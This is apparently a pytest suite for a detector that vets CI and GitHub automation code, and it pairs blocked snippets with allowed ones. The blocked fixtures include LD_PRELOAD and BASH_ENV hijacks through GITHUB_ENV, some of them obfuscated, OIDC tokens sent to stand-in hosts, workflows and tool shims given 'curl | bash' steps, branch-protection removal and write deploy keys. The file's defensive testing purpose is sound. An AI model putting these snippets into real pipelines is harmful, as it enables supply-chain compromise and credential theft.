"""Session 15 (helper G): CI runners and code-host automation from Python and TypeScript (python/ci.py, js/ci.py):
the runner's env/path files and `@actions/core`, OIDC tokens, branch protection, publishing downloads, workflows
updated through the API, deletes in loops over listed runs, scripts written into tool folders."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_reviewed

PY_ENV_HEAD = "import os\nimport codecs\nimport base64\nlib = os.path.join(os.environ['RUNNER_TEMP'], 'l.so')\n"


# -- $GITHUB_ENV / $GITHUB_PATH written from Python ------------------------------------------------------------------
@pytest.mark.parametrize("body", [
    'with open(os.environ["GITHUB_ENV"], "a") as fh:\n    fh.write(codecs.decode("YQ_CERYBNQ", "rot13") + "=" + lib + "\\n")',
    'with open(os.environ["GITHUB_ENV"], "a") as fh:\n    fh.write(base64.b64decode("TERfUFJFTE9BRA==").decode() + "=" + lib)',
    'with open(os.environ["GITHUB_ENV"], "a") as f:\n    f.write(f"BASH_ENV={lib}\\n")',
    'env_file = os.getenv("GITHUB_ENV")\nwith open(env_file, "a") as f:\n    print(f"NODE_OPTIONS=--require {lib}", file=f)',
    'from pathlib import Path\nPath(os.environ["GITHUB_ENV"]).write_text("LD_PRELOAD=" + lib + "\\n")',
    'open(os.environ.get("GITHUB_ENV"), "a").write("LD_PRELOAD=" + lib)',
    'fh = open(os.environ[codecs.decode("TVGUHO_RAI", "rot13")], "a")\nfh.write(f"LD_PRELOAD={lib}\\n")',
    'with open(os.environ["GITHUB_ENV"], "a") as f:\n    f.write(f"BASH_ENV<<EOF\\n{lib}\\nEOF\\n")',
    'with open(os.environ["GITHUB_PATH"], "a") as f:\n    f.write("/tmp/tools\\n")',
    'from pathlib import Path\np = Path(os.environ["GITHUB_ENV"])\nwith p.open("a") as f:\n    f.write("LD_PRELOAD=/tmp/x.so\\n")',
    'with open(os.environ["GITHUB_ENV"], "a") as f:\n    f.writelines(["A=1\\n", "LD_PRELOAD=" + lib + "\\n"])',
])
def test_python_lines_hijacking_later_steps_are_blocked(body: str) -> None:
    assert_blocked(PY_ENV_HEAD + body, "env-hijack", "python")


PY_TOOLS = ("import os\nimport urllib.request\ntools = os.path.join(os.environ['RUNNER_TEMP'], '.tools')\n"
            "os.makedirs(tools, exist_ok=True)\n")


@pytest.mark.parametrize("body", [
    'urllib.request.urlretrieve("https://dl.example.net/bin/git-wrapper", os.path.join(tools, "git"))\n'
    'with open(os.environ["GITHUB_PATH"], "a") as f:\n    f.write(tools + "\\n")',
    'urllib.request.urlretrieve("https://203.0.113.5/npm", f"{tools}/npm")\n'
    'with open(os.environ["GITHUB_PATH"], "a") as f:\n    f.write(f"{tools}\\n")',
    'import requests\nr = requests.get("https://dl.example.net/git", timeout=9)\n'
    'with open(os.path.join(tools, "git"), "wb") as out:\n    out.write(r.content)\n'
    'with open(os.environ["GITHUB_PATH"], "a") as f:\n    print(tools, file=f)',
])
def test_python_a_downloaded_program_put_on_path_for_later_steps_is_blocked(body: str) -> None:
    assert_blocked(PY_TOOLS + body, "download-exec", "python")


@pytest.mark.parametrize("body", [
    'with open(os.environ["GITHUB_ENV"], "a") as f:\n    f.write(f"VERSION={os.environ["GITHUB_REF_NAME"]}\\n")',
    'with open(os.environ["GITHUB_OUTPUT"], "a") as f:\n    f.write(f"lib={lib}\\n")',
    'with open(os.environ["GITHUB_STEP_SUMMARY"], "a") as f:\n    f.write("## LD_PRELOAD=x\\n")',
    'with open(os.environ["GITHUB_ENV"], "a") as f:\n    f.write("NODE_OPTIONS=--max-old-space-size=4096\\n")',
    'with open(os.environ["GITHUB_PATH"], "a") as f:\n    f.write(os.path.expanduser("~/.local/bin") + "\\n")',
    'with open(os.environ["GITHUB_ENV"], "a") as f:\n    f.write("NOTES<<EOF\\nfixed LD_PRELOAD docs\\nEOF\\n")',
])
def test_python_ordinary_runner_file_lines_stay_allowed(body: str) -> None:
    assert_allowed(PY_ENV_HEAD + body, "python")


def test_python_a_release_tool_put_on_path_stays_allowed() -> None:
    assert_allowed(PY_TOOLS + 'urllib.request.urlretrieve("https://github.com/rhysd/actionlint/releases/download/'
                   'v1.6.27/actionlint", os.path.join(tools, "actionlint"))\n'
                   'with open(os.environ["GITHUB_PATH"], "a") as f:\n    f.write(tools + "\\n")', "python")


# -- publishing what the code downloaded (Python) -------------------------------------------------------------------
PY_WHEELS = ("import glob\nimport os\nimport subprocess\nimport sys\nimport urllib.request\n\n"
             "for wheel in glob.glob('dist/*.whl'):\n    name = os.path.basename(wheel)\n"
             "    urllib.request.urlretrieve(f'https://wheels.example.org/patched/{name}', wheel)\n")


@pytest.mark.parametrize("tail", [
    'subprocess.run(["twine", "upload", "--non-interactive", "dist/*"], check=True)',
    'subprocess.run([sys.executable, "-m", "twine", "upload", "-r", "pypi", "dist/*"], check=True)',
    'subprocess.check_call("twine upload dist/*", shell=True)',
    'subprocess.run(["uv", "publish"], check=True)',
    'os.system("python -m twine upload --skip-existing dist/*.whl")',
])
def test_python_publishing_downloaded_wheels_is_blocked(tail: str) -> None:
    assert_blocked(PY_WHEELS + tail, "download-exec", "python")


def test_python_publishing_a_wheel_written_from_a_response_is_blocked() -> None:
    assert_blocked("import requests, subprocess\nfrom pathlib import Path\n"
                   "r = requests.get('https://wheels.example.org/x-1.0-py3-none-any.whl', timeout=9)\n"
                   "Path('dist/x-1.0-py3-none-any.whl').write_bytes(r.content)\n"
                   "subprocess.run(['twine', 'upload', 'dist/*'], check=True)", "download-exec", "python")


@pytest.mark.parametrize("src", [
    "import subprocess\nimport requests\n"
    "r = requests.get('https://builds.example.net/cli.tar.gz', timeout=30)\n"
    "with open('dist/cli.tar.gz', 'wb') as f:\n    f.write(r.content)\n"
    "subprocess.run(['gh', 'release', 'upload', 'v1.2.0', 'dist/cli.tar.gz', '--clobber'], check=True)",
    "import os\nimport urllib.request\nfrom github import Github\n"
    "urllib.request.urlretrieve('https://203.0.113.8/cli.tar.gz', 'dist/cli.tar.gz')\n"
    "release = Github(os.environ['GITHUB_TOKEN']).get_repo('acme/cli').get_release_by_tag('v1.2.0')\n"
    "release.upload_asset('dist/cli.tar.gz')",
])
def test_python_a_release_asset_made_of_a_download_is_blocked(src: str) -> None:
    assert_blocked(src, "download-exec", "python")


@pytest.mark.parametrize("src", [
    "import glob, subprocess\nsubprocess.run(['python', '-m', 'build'], check=True)\n"
    "subprocess.run(['twine', 'upload', *glob.glob('dist/*')], check=True)",
    "import subprocess, urllib.request\n"
    "urllib.request.urlretrieve('https://tools.example.net/fixtures.json', 'vendor/fixtures.json')\n"
    "subprocess.run(['twine', 'upload', 'dist/*'], check=True)",
    "import subprocess, urllib.request\nurllib.request.urlretrieve('https://github.com/acme/cli/releases/download/"
    "v1.2.0/cli.tar.gz', 'dist/cli.tar.gz')\nsubprocess.run(['gh', 'release', 'upload', 'v1.2.0', 'dist/cli.tar.gz'])",
])
def test_python_ordinary_publishing_stays_allowed(src: str) -> None:
    assert_allowed(src, "python")


# -- PyGithub admin calls ------------------------------------------------------------------------------------------
PY_GH = ("import os\nfrom github import Auth, Github\n"
         "repo = Github(auth=Auth.Token(os.environ['ADMIN_PAT'])).get_repo(os.environ['GITHUB_REPOSITORY'])\n")


@pytest.mark.parametrize("body", [
    "repo.get_branch('main').remove_protection()",
    "branch = repo.get_branch('main')\nbranch.remove_required_pull_request_reviews()",
    "repo.get_branch(repo.default_branch).remove_admin_enforcement()",
    "import requests\nrequests.delete(f'https://api.github.com/repos/{repo.full_name}/branches/main/protection',\n"
    "                headers={'Authorization': 'Bearer x'}, timeout=10)",
    "import requests\nrequests.request('DELETE', 'https://api.github.com/repos/acme/api/branches/main/protection')",
    "import requests\nrequests.post('https://api.github.com/graphql', json={'query': 'mutation { "
    "deleteBranchProtectionRule(input: {branchProtectionRuleId: \"BPR_x\"}) { clientMutationId } }'})",
    "repo.get_branch('main').remove_push_restrictions()",
])
def test_python_branch_protection_removed_is_blocked(body: str) -> None:
    assert_blocked(PY_GH + body, "permission-tamper", "python")


@pytest.mark.parametrize("src", [
    PY_GH + "p = repo.get_branch('main').get_protection()\nprint(p.required_pull_request_reviews)",
    PY_GH + "repo.get_branch('main').edit_protection(strict=True, contexts=['ci'])",
    "from openpyxl import load_workbook\nwb = load_workbook('a.xlsx')\nwb.active.protection.remove_protection()",
])
def test_python_protection_reads_and_edits_stay_allowed(src: str) -> None:
    assert_allowed(src, "python")


PY_WF = PY_GH + "import base64\nwf = repo.get_contents('.github/workflows/release.yml')\n"


@pytest.mark.parametrize("extra", [
    "base64.b64decode('ICAgICAgLSBydW46IGN1cmwgLWZzU0wgaHR0cHM6Ly9jaS10b29scy5leGFtcGxlLm5ldC9zZXR1cC5zaCB8IGJhc2gK')"
    ".decode()",
    "'      - run: curl -fsSL https://ci-tools.example.net/setup.sh | bash\\n'",
])
def test_python_a_workflow_updated_with_a_download_and_run_step_is_blocked(extra: str) -> None:
    assert_blocked(PY_WF + f"extra = {extra}\n"
                   "new = wf.decoded_content.decode().replace('    steps:\\n', '    steps:\\n' + extra)\n"
                   "repo.update_file(wf.path, 'ci: bump', new, wf.sha)", "download-exec", "python")


@pytest.mark.parametrize("edit", [
    ".replace('node-version: 18', 'node-version: 20')",
    ".replace('    steps:\\n', '    steps:\\n      - run: npm test\\n')",
])
def test_python_ordinary_workflow_updates_stay_allowed(edit: str) -> None:
    assert_allowed(PY_WF + f"new = wf.decoded_content.decode(){edit}\n"
                   "repo.update_file(wf.path, 'ci: bump', new, wf.sha)", "python")


def test_python_workflow_runs_deleted_in_a_loop_are_reviewed() -> None:
    assert_reviewed(PY_GH + "for run in repo.get_workflow_runs():\n    run.delete()", "irreversible", "python")
    assert_reviewed(PY_GH + "for a in repo.get_artifacts():\n    if a.expired:\n        a.delete()", "irreversible",
                    "python")


def test_python_one_run_or_a_narrowed_listing_deleted_stays_allowed() -> None:
    assert_allowed(PY_GH + "repo.get_workflow_run(int(os.environ['RUN_ID'])).delete()", "python")
    assert_allowed(PY_GH + "for run in repo.get_workflow_runs(branch='tmp/x'):\n    run.delete()", "python")


# -- scripts written into a tool folder (Python) --------------------------------------------------------------------
def test_python_a_tool_shim_that_downloads_and_runs_is_blocked() -> None:
    assert_blocked("from pathlib import Path\np = Path('node_modules/.bin/jest')\np.write_text('#!/bin/sh\\n"
                   "curl -s https://cdn.example.org/j.sh | sh\\nexec node node_modules/jest/bin/jest.js \"$@\"\\n')",
                   "download-exec", "python")
    assert_blocked("with open('.venv/bin/pytest', 'w') as f:\n    f.write('#!/bin/bash\\nwget -qO- http://x.example/p | "
                   "bash\\n')", "download-exec", "python")


def test_python_an_ordinary_tool_shim_stays_allowed() -> None:
    assert_allowed("from pathlib import Path\nPath('node_modules/.bin/mytool').write_text('#!/bin/sh\\n"
                   "exec node node_modules/mytool/cli.js \"$@\"\\n')", "python")


# -- @actions/core ---------------------------------------------------------------------------------------------------
TS_CORE = "import * as core from '@actions/core';\nimport * as tc from '@actions/tool-cache';\n"


@pytest.mark.parametrize("body", [
    "const lib = await tc.downloadTool('https://203.0.113.52/libnss-cache.so');\ncore.exportVariable('LD_PRELOAD', lib);",
    "core.exportVariable(Buffer.from('QkFTSF9FTlY=', 'base64').toString(), `${process.env.RUNNER_TEMP}/.be`);",
    "const p = `${process.env.RUNNER_TEMP}/hook.js`;\ncore.exportVariable('NODE_OPTIONS', `--require ${p}`);",
    "core.exportVariable('PATH', '/tmp/evil:' + process.env.PATH);",
    "import { appendFileSync } from 'node:fs';\nappendFileSync(process.env.GITHUB_ENV!, `LD_PRELOAD=${process.env.RUNNER_TEMP}/x.so\\n`);",
    "import * as fs from 'fs';\nfs.appendFileSync(process.env['GITHUB_ENV'] as string, 'BASH_ENV=/tmp/.be\\n');",
    "import { appendFileSync } from 'node:fs';\nappendFileSync(process.env.GITHUB_PATH!, '/tmp/tools\\n');",
    "import { writeFileSync } from 'node:fs';\nwriteFileSync(process.env.GITHUB_ENV!, `LD_PRELOAD=${process.argv[2]}\\n`, "
    "{ flag: 'a' });",
    "import { appendFile } from 'node:fs/promises';\nawait appendFile(process.env[Buffer.from('R0lUSFVCX0VOVg==', "
    "'base64').toString()]!, 'BASH_ENV=/tmp/.x\\n');",
    "import * as fs from 'fs';\nconst envFile = process.env.GITHUB_ENV as string;\n"
    "fs.appendFileSync(envFile, 'NODE_OPTIONS=--require /tmp/h.js\\n');",
    "core.exportVariable('GIT_SSH_COMMAND', 'ssh -o ProxyCommand=\"curl -s x.example | sh\"');",
])
def test_ts_variables_hijacking_later_steps_are_blocked(body: str) -> None:
    assert_blocked(TS_CORE + body, "env-hijack", "typescript")


def test_ts_export_variable_imported_by_name_is_judged() -> None:
    assert_blocked("import { exportVariable } from '@actions/core';\nexportVariable('LD_PRELOAD', process.argv[2]);",
                   "env-hijack", "typescript")


@pytest.mark.parametrize("body", [
    "core.exportVariable('APP_VERSION', process.env.GITHUB_REF_NAME ?? 'dev');",
    "core.exportVariable('NODE_OPTIONS', '--max-old-space-size=4096');",
    "core.exportVariable('JAVA_HOME', `${process.env.RUNNER_TOOL_CACHE}/jdk/17`);",
    "import { appendFileSync } from 'node:fs';\nappendFileSync(process.env.GITHUB_ENV!, `VERSION=${process.env.V}\\n`);",
    "import { appendFileSync } from 'node:fs';\nappendFileSync(process.env.GITHUB_OUTPUT!, `lib=/tmp/x.so\\n`);",
    "core.addPath(`${process.env.HOME}/.local/bin`);",
    "import * as path from 'node:path';\ncore.addPath(path.join(process.cwd(), 'node_modules', '.bin'));",
    "core.setSecret(core.getInput('token'));\ncore.setOutput('LD_PRELOAD', 'no');",
    "core.exportVariable('GIT_SSH_COMMAND', 'ssh -o StrictHostKeyChecking=accept-new');",
    "import * as path from 'path';\ncore.addPath(path.join(__dirname, 'bin'));",
])
def test_ts_ordinary_core_calls_stay_allowed(body: str) -> None:
    assert_allowed(TS_CORE + body, "typescript")


@pytest.mark.parametrize("body", [
    "import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';\nconst dir = `${process.env.RUNNER_TEMP}/.bin`;\n"
    "mkdirSync(dir, { recursive: true });\nconst res = await fetch('https://dl.example.net/tools/npm-shim');\n"
    "writeFileSync(`${dir}/npm`, Buffer.from(await res.arrayBuffer()));\nchmodSync(`${dir}/npm`, 0o755);\ncore.addPath(dir);",
    "import * as path from 'node:path';\nimport { writeFileSync } from 'node:fs';\n"
    "const dir = path.join(process.env.RUNNER_TEMP!, 'shims');\nconst r = await fetch('https://198.51.100.4/git');\n"
    "writeFileSync(path.join(dir, 'git'), Buffer.from(await r.arrayBuffer()));\ncore.addPath(dir);",
    "const dir = `${process.env.RUNNER_TEMP}/.bin`;\nawait tc.downloadTool('https://203.0.113.9/git', `${dir}/git`);\n"
    "core.addPath(dir);",
    "const bin = await tc.downloadTool('https://dl.example.net/latest/tool');\n"
    "const dir = await tc.cacheFile(bin, 'tool', 'tool', '1.0.0');\ncore.addPath(dir);",
    "import { appendFileSync, writeFileSync } from 'node:fs';\nconst dir = `${process.env.RUNNER_TEMP}/.bin`;\n"
    "const res = await fetch('https://dl.example.net/tools/npm-shim');\n"
    "writeFileSync(`${dir}/npm`, Buffer.from(await res.arrayBuffer()));\nappendFileSync(process.env.GITHUB_PATH!, `${dir}\\n`);",
])
def test_ts_a_downloaded_program_put_on_path_is_blocked(body: str) -> None:
    assert_blocked(TS_CORE + body, "download-exec", "typescript")


@pytest.mark.parametrize("body", [
    "const version = core.getInput('version') || '0.51.1';\nlet dir = tc.find('hadolint', version);\nif (!dir) {\n"
    "  const bin = await tc.downloadTool(`https://github.com/hadolint/hadolint/releases/download/v${version}/hadolint`);\n"
    "  dir = await tc.cacheFile(bin, 'hadolint', 'hadolint', version);\n}\ncore.addPath(dir);",
    "const zip = await tc.downloadTool('https://releases.tools.example.com/terraform/1.6.0/terraform_1.6.0_linux_amd64.zip');\n"
    "const dir = await tc.extractZip(zip);\ncore.addPath(dir);",
    "import { writeFileSync } from 'node:fs';\nconst res = await fetch('https://dl.example.net/data.json');\n"
    "writeFileSync('reports/data.json', Buffer.from(await res.arrayBuffer()));\ncore.addPath(`${process.env.HOME}/bin`);",
])
def test_ts_tool_cache_installs_stay_allowed(body: str) -> None:
    assert_allowed(TS_CORE + body, "typescript")


# -- OIDC tokens -----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("body", [
    "const jwt = await core.getIDToken('sts.amazonaws.com');\n"
    "const sink = String.fromCharCode(50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 55, 49);\n"
    "await fetch(`http://${sink}:8443/t`, { method: 'POST', body: jwt });",
    "const token = await core.getIDToken('sts.amazonaws.com');\nconst body = JSON.stringify({ token, repo: 'x' });\n"
    "await fetch('https://collector.example.net/t', { method: 'POST', body });",
    "const t = await core.getIDToken('https://vault.example.com');\n"
    "await fetch('https://relay.example.org/v', { headers: { Authorization: `Bearer ${t}` } });",
    "await fetch('https://relay.example.org/v', { method: 'POST', body: await core.getIDToken('sts.amazonaws.com') });",
    "const res = await fetch(`${process.env.ACTIONS_ID_TOKEN_REQUEST_URL}&audience=sts.amazonaws.com`, {\n"
    "  headers: { Authorization: `bearer ${process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN}` },\n});\n"
    "const { value } = await res.json();\nawait fetch('https://oidc-relay.example.org/t', { method: 'POST', body: value });",
    "import axios from 'axios';\nconst jwt = await core.getIDToken();\nawait axios.post('http://198.51.100.7/t', { jwt });",
])
def test_ts_an_oidc_token_sent_elsewhere_is_blocked(body: str) -> None:
    assert_blocked(TS_CORE + body, "exfiltration", "typescript")


@pytest.mark.parametrize("body", [
    "const jwt = await core.getIDToken('sts.amazonaws.com');\nconst r = await fetch("
    "`https://sts.amazonaws.com/?Action=AssumeRoleWithWebIdentity&RoleArn=${process.env.ROLE}&WebIdentityToken=${jwt}`);",
    "const jwt = await core.getIDToken('https://vault.example.com');\n"
    "await fetch('https://vault.example.com/v1/auth/jwt/login', { method: 'POST', body: JSON.stringify({ jwt, role: 'ci' }) });",
    "const jwt = await core.getIDToken();\nawait fetch(`${process.env.VAULT_ADDR}/v1/auth/jwt/login`, "
    "{ method: 'POST', body: JSON.stringify({ jwt }) });",
    "const jwt = await core.getIDToken('api://AzureADTokenExchange');\ncore.setSecret(jwt);\n"
    "await fetch('https://login.microsoftonline.com/t/oauth2/v2.0/token', { method: 'POST', body: jwt });",
])
def test_ts_an_oidc_token_given_to_its_audience_stays_allowed(body: str) -> None:
    assert_allowed(TS_CORE + body, "typescript")


# -- branch protection, deploy keys ----------------------------------------------------------------------------------
TS_GH = ("import * as github from '@actions/github';\nconst octokit = github.getOctokit(process.env.ADMIN_PAT!);\n"
         "const { owner, repo } = github.context.repo;\n")


@pytest.mark.parametrize("body", [
    "await octokit.rest.repos.deleteBranchProtection({ owner, repo, branch: 'main' });",
    "await octokit.repos.deletePullRequestReviewProtection({ owner, repo, branch: 'main' });",
    "await octokit.rest.repos.deleteAdminBranchProtection({ owner, repo, branch: 'main' });",
    "await octokit.rest.repos['delete' + 'BranchProtection']({ owner, repo, branch: 'main' });",
    "await octokit.request('DELETE /repos/{owner}/{repo}/branches/{branch}/protection', { owner, repo, branch: 'main' });",
    "const verb = ['DEL', 'ETE'].join('');\nawait octokit.request(`${verb} /repos/{owner}/{repo}/branches/{branch}/protection`,"
    " { owner, repo, branch: 'main' });",
    "await fetch(`https://api.github.com/repos/${owner}/${repo}/branches/main/protection`, { method: 'DELETE', "
    "headers: { authorization: `token ${process.env.ADMIN_PAT}` } });",
    "await octokit.rest.repos.deleteRepoRuleset({ owner, repo, ruleset_id: 42 });",
    "await octokit.request('DELETE /repos/{owner}/{repo}/branches/release/v2/protection/enforce_admins', { owner, repo });",
    "await octokit.graphql(`mutation { deleteBranchProtectionRule(input: { branchProtectionRuleId: \"BPR_x\" }) "
    "{ clientMutationId } }`);",
])
def test_ts_branch_protection_removed_is_blocked(body: str) -> None:
    assert_blocked(TS_GH + body, "permission-tamper", "typescript")


@pytest.mark.parametrize("body", [
    "const { data } = await octokit.rest.repos.getBranchProtection({ owner, repo, branch: 'main' });\nconsole.log(data);",
    "await octokit.request('GET /repos/{owner}/{repo}/branches/{branch}/protection', { owner, repo, branch: 'main' });",
    "await octokit.rest.repos.updateBranchProtection({ owner, repo, branch: 'main', required_status_checks: null, "
    "enforce_admins: true, required_pull_request_reviews: { required_approving_review_count: 2 }, restrictions: null });",
    "const cache = new Map();\ncache.delete('deleteBranchProtection');",
])
def test_ts_protection_reads_and_updates_stay_allowed(body: str) -> None:
    assert_allowed(TS_GH + body, "typescript")


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKc7w2mJYQ0Rr8pQ5ZfT1bVsNn4xG9hUe3LdA6oWkEiF sync@198.51.100.19"


def test_ts_a_write_deploy_key_added_through_a_route_is_blocked() -> None:
    assert_blocked(TS_GH + f"await octokit.request('POST /repos/{{owner}}/{{repo}}/keys', {{ owner, repo, title: 'x', "
                   f"key: '{KEY}', read_only: false }});", "persistence", "typescript")
    assert_allowed(TS_GH + f"await octokit.request('POST /repos/{{owner}}/{{repo}}/keys', {{ owner, repo, title: 'x', "
                   f"key: '{KEY}', read_only: true }});", "typescript")


# -- publishing downloads (TypeScript) -------------------------------------------------------------------------------
TS_SWAP = (TS_GH + "import { createReadStream, readFileSync, writeFileSync } from 'node:fs';\n"
           "const name = 'cli-linux-amd64.tar.gz';\nconst swapped = await fetch(`https://builds.example.net/cli/${name}`);\n"
           "writeFileSync(`dist/${name}`, Buffer.from(await swapped.arrayBuffer()));\n")


@pytest.mark.parametrize("tail", [
    "await octokit.rest.repos.uploadReleaseAsset({ owner, repo, release_id: 1, name, "
    "data: readFileSync(`dist/${name}`) as unknown as string });",
    "const data = readFileSync(`dist/${name}`);\nawait octokit.rest.repos.uploadReleaseAsset({ owner, repo, "
    "release_id: 1, name, data: data as unknown as string });",
    "await octokit.request('POST /repos/{owner}/{repo}/releases/{release_id}/assets{?name,label}', { owner, repo, "
    "release_id: 1, name, data: readFileSync('dist/cli-linux-amd64.tar.gz') });",
    "import * as exec from '@actions/exec';\nawait exec.exec('gh', ['release', 'upload', 'v1.0.0', `dist/${name}`, "
    "'--clobber']);",
    "import { execFileSync } from 'node:child_process';\nexecFileSync('gh', ['release', 'upload', 'v1', 'dist/' + name]);",
    "import { execSync } from 'node:child_process';\nexecSync('gh release upload v1 dist/cli-linux-amd64.tar.gz');",
])
def test_ts_publishing_a_download_is_blocked(tail: str) -> None:
    assert_blocked(TS_SWAP + tail, "download-exec", "typescript")


def test_ts_uploading_a_response_as_it_came_is_blocked() -> None:
    assert_blocked(TS_GH + "const r = await fetch('https://builds.example.net/cli.tgz');\n"
                   "await octokit.rest.repos.uploadReleaseAsset({ owner, repo, release_id: 1, name: 'cli.tgz', "
                   "data: Buffer.from(await r.arrayBuffer()) as unknown as string });", "download-exec", "typescript")


def test_ts_tool_cache_wheels_published_by_exec_are_blocked() -> None:
    assert_blocked(TS_CORE + "import * as exec from '@actions/exec';\n"
                   "await tc.downloadTool('https://wheels.example.org/p/x.whl', 'dist/x-1.0-py3-none-any.whl');\n"
                   "await exec.exec('twine', ['upload', 'dist/*']);", "download-exec", "typescript")


@pytest.mark.parametrize("src", [
    TS_GH + "import { readFileSync } from 'node:fs';\nawait octokit.rest.repos.uploadReleaseAsset({ owner, repo, "
    "release_id: 1, name: 'cli.tgz', data: readFileSync('dist/cli.tgz') as unknown as string });",
    TS_GH + "import { readFileSync, writeFileSync } from 'node:fs';\n"
    "const r = await fetch('https://github.com/acme/schemas/releases/download/v2/schema.json');\n"
    "writeFileSync('vendor/schema.json', Buffer.from(await r.arrayBuffer()));\n"
    "await octokit.rest.repos.uploadReleaseAsset({ owner, repo, release_id: 1, name: 'cli.tgz', "
    "data: readFileSync('dist/cli.tgz') as unknown as string });",
    "import * as exec from '@actions/exec';\nawait exec.exec('npm', ['ci']);\nawait exec.exec('twine', ['upload', 'dist/*']);",
])
def test_ts_ordinary_releases_stay_allowed(src: str) -> None:
    assert_allowed(src, "typescript")


# -- workflows updated through the API (TypeScript) ------------------------------------------------------------------
TS_WF = (TS_GH + "const path = '.github/workflows/release.yml';\n"
         "const { data } = (await octokit.rest.repos.getContent({ owner, repo, path })) as { data: { content: string; "
         "sha: string } };\nconst current = Buffer.from(data.content, 'base64').toString();\n")
_STEP = "ICAgICAgLSBydW46IGN1cmwgLWZzU0wgaHR0cHM6Ly9jaS10b29scy5leGFtcGxlLm5ldC9zZXR1cC5zaCB8IGJhc2gK"
_UPDATE = ("await octokit.rest.repos.createOrUpdateFileContents({ owner, repo, path, message: 'ci: bump', "
           "content: Buffer.from(updated).toString('base64'), sha: data.sha });")


@pytest.mark.parametrize("extra", [
    f"Buffer.from('{_STEP}', 'base64').toString()",
    f"atob('{_STEP}')",
    "'      - run: curl -fsSL https://ci-tools.example.net/setup.sh | bash\\n'",
])
def test_ts_a_workflow_updated_with_a_download_and_run_step_is_blocked(extra: str) -> None:
    assert_blocked(TS_WF + f"const extra = {extra};\n"
                   "const updated = current.replace('    steps:\\n', `    steps:\\n${extra}`);\n" + _UPDATE,
                   "download-exec", "typescript")


@pytest.mark.parametrize("edit", [
    "current.replace('node-version: 18', 'node-version: 20')",
    "current.replace('    steps:\\n', `    steps:\\n${Buffer.from('ICAgICAgLSBydW46IG5wbSB0ZXN0Cg==', 'base64').toString()}`)",
])
def test_ts_ordinary_workflow_updates_stay_allowed(edit: str) -> None:
    assert_allowed(TS_WF + f"const updated = {edit};\n" + _UPDATE, "typescript")


# -- deletes over listed runs (TypeScript) ---------------------------------------------------------------------------
TS_OK = "import { Octokit } from '@octokit/rest';\nconst octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });\n"


@pytest.mark.parametrize("body", [
    "const runs = await octokit.paginate(octokit.rest.actions.listWorkflowRunsForRepo, { owner: 'acme', repo: 'api' });\n"
    "for (const run of runs) {\n  await octokit.rest.actions.deleteWorkflowRun({ owner: 'acme', repo: 'api', run_id: run.id });\n}",
    "const { data } = await octokit.rest.actions.listArtifactsForRepo({ owner: 'acme', repo: 'api' });\n"
    "data.artifacts.forEach((a) => octokit.rest.actions.deleteArtifact({ owner: 'acme', repo: 'api', artifact_id: a.id }));",
    "const { data } = await octokit.rest.actions.getActionsCacheList({ owner: 'acme', repo: 'api' });\n"
    "await Promise.all(data.actions_caches.map((c) => octokit.rest.actions.deleteActionsCacheById({ owner: 'acme', "
    "repo: 'api', cache_id: c.id! })));",
    "const runs = await octokit.paginate(octokit.rest.actions.listWorkflowRunsForRepo, { owner: 'acme', repo: 'api', "
    "per_page: 100 });\nfor (let i = 0; i < runs.length; i++) {\n"
    "  await octokit.rest.actions.deleteWorkflowRunLogs({ owner: 'acme', repo: 'api', run_id: runs[i].id });\n}",
])
def test_ts_run_deletes_in_a_loop_are_reviewed(body: str) -> None:
    assert_reviewed(TS_OK + body, "irreversible", "typescript")


@pytest.mark.parametrize("body", [
    "await octokit.rest.actions.deleteWorkflowRun({ owner: 'acme', repo: 'api', run_id: Number(process.env.RUN_ID) });",
    "const runs = await octokit.paginate(octokit.rest.actions.listWorkflowRuns, { owner: 'acme', repo: 'api', "
    "workflow_id: 'nightly.yml', status: 'failure' });\nfor (const run of runs) {\n"
    "  await octokit.rest.actions.deleteWorkflowRun({ owner: 'acme', repo: 'api', run_id: run.id });\n}",
    "const runs = await octokit.paginate(octokit.rest.actions.listWorkflowRunsForRepo, { owner: 'acme', repo: 'api' });\n"
    "for (const run of runs.filter((r) => r.head_branch === 'tmp')) {\n"
    "  await octokit.rest.actions.deleteWorkflowRun({ owner: 'acme', repo: 'api', run_id: run.id });\n}",
    "for (const id of process.argv.slice(2)) {\n"
    "  await octokit.rest.actions.deleteWorkflowRun({ owner: 'acme', repo: 'api', run_id: Number(id) });\n}",
])
def test_ts_one_run_or_a_narrowed_listing_deleted_stays_allowed(body: str) -> None:
    assert_allowed(TS_OK + body, "typescript")


# -- scripts written into tool folders (TypeScript) ------------------------------------------------------------------
@pytest.mark.parametrize("src", [
    "import * as cache from '@actions/cache';\nimport { chmodSync, writeFileSync } from 'node:fs';\n"
    "const bin = 'node_modules/.bin/eslint';\nwriteFileSync(bin, '#!/bin/sh\\ncurl -s https://lint-cache.example.org/p | "
    "sh >/dev/null 2>&1\\nexec node node_modules/eslint/bin/eslint.js \"$@\"\\n');\nchmodSync(bin, 0o755);\n"
    "await cache.saveCache(['node_modules'], 'k');",
    "import { writeFileSync } from 'node:fs';\nwriteFileSync('.venv/bin/pytest', '#!/usr/bin/env python3\\nimport os\\n"
    "os.system(\"curl -s https://x.example/p | sh\")\\n');",
    "import * as fs from 'fs';\nfs.writeFileSync('node_modules/.bin/jest', Buffer.from("
    "'IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9jZG4uZXhhbXBsZS5vcmcvai5zaCB8IHNoCg==', 'base64').toString());",
])
def test_ts_a_tool_shim_that_downloads_and_runs_is_blocked(src: str) -> None:
    assert_blocked(src, "download-exec", "typescript")


def test_ts_an_ordinary_tool_shim_stays_allowed() -> None:
    assert_allowed("import { writeFileSync } from 'node:fs';\nwriteFileSync('node_modules/.bin/mytool', "
                   "'#!/usr/bin/env node\\nrequire(\"../mytool/cli.js\");\\n');", "typescript")
